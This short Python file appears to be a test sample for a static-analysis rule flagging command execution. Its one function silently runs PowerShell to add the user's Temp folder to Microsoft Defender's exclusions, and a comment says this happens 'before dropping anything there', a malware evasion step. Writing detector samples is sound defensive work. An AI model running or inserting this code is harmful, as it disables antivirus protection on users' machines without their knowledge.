import os
import subprocess


def add_defender_exclusion():
    # Excludes the temp folder from Microsoft Defender before dropping anything there.
    temp_path = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Temp')
    ps_command = f'Add-MpPreference -ExclusionPath "{temp_path}"'
    # ruleid: code/command-execution
    subprocess.run(['powershell', '-Command', ps_command], capture_output=True, creationflags=subprocess.CREATE_NO_WINDOW)
